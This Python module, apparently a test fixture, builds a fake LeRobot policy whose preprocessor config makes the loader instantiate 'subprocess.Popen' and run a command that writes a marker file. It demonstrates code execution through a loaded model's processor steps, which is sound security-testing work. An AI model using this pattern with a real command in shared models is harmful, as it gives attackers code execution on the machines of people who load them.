"""What an attacker makes."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

_HEADER = b'{"model.weight": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}}'
#: A model of 64 bytes, as safetensors has it: the length of the header, the header, the numbers.
WEIGHTS = len(_HEADER).to_bytes(8, "little") + _HEADER + bytes(64)


def step(marker: Path) -> dict[str, Any]:
    """A processor step that runs a command on the box which loads it."""
    command = [sys.executable, "-c", f"open({str(marker)!r}, 'w').write('code of the attacker ran')"]
    return {"class": "subprocess.Popen", "config": {"args": command}}


def processors(marker: Path) -> bytes:
    return json.dumps({"name": "policy_preprocessor", "steps": [step(marker)]}).encode()


def model(directory: Path, marker: Path) -> Path:
    """A policy as LeRobot saves it, with one step more."""
    directory.mkdir(parents=True)
    (directory / "config.json").write_text('{"type": "act"}')
    (directory / "model.safetensors").write_bytes(WEIGHTS)
    (directory / "policy_preprocessor.json").write_bytes(processors(marker))
    return directory
